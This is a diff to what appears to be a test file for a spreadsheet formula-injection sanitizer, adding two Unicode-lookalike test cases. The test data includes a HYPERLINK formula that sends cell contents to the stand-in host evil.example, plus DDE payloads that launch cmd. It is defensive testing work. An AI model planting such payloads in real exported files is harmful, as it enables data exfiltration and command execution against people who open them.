@@ -19,6 +19,8 @@ LINK = '=HYPERLINK("http://evil.example/?"&A1,"Athena")'
         (f" \t{LINK}", f"'{LINK}"),
         (f"\u202e{LINK}", f"'{LINK}"),
         ("\uff1dcmd|' /C calc'!A0", "'\uff1dcmd|' /C calc'!A0"),
+        ("\ufe66SUM(A1:A9)", "'\ufe66SUM(A1:A9)"),
+        ("door\n\u22121+2", "door\n'\u22121+2"),
         ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
         ("+44 7700 900000", "'+44 7700 900000"),
         ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
